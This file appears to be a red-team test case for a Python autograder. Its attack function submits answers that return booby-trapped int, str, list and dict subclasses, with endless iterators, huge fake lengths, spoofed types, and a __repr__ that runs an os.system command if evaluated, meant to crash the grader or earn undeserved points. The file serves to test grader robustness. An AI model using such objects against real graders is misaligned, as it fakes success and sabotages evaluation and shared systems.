"""Subclasses of int, str, bytes, list and dict whose methods return false values during copying.

Success: the attack earns points, the class stops, or the other questions lose points.
"""

DESERVES = ["total"]


def attack(submission):
    submission.solve("total")
    submission.first("""
        class Int(int):
            to_bytes = __index__ = __int__ = lambda self, *a, **k: 1 / 0
            bit_length = lambda self: 1 << 60
            __repr__ = lambda self: "__import__('os').system('touch /tmp/red-team-was-here')"

        class Text(str):
            encode = lambda self, *a: b"x" * (1 << 30)
            __len__ = lambda self: 1 << 40
            __str__ = lambda self: self

        class List(list):
            __len__ = lambda self: -5
            __iter__ = lambda self: iter(int, 1)
            __getitem__ = lambda self, key: self

        class Dict(dict):
            items = keys = values = __iter__ = lambda self: iter(int, 1)
            __class__ = property(lambda self: list)
    """)
    for name, value in {
        "square": "Int(9)",
        "words": "Dict(a=Text('b'))",
        "primes": "List([2, 3, 5, 7])",
        "root": "Text('3')",
    }.items():
        submission.answer(name, f"def {name}(*a):\n    return {value}")
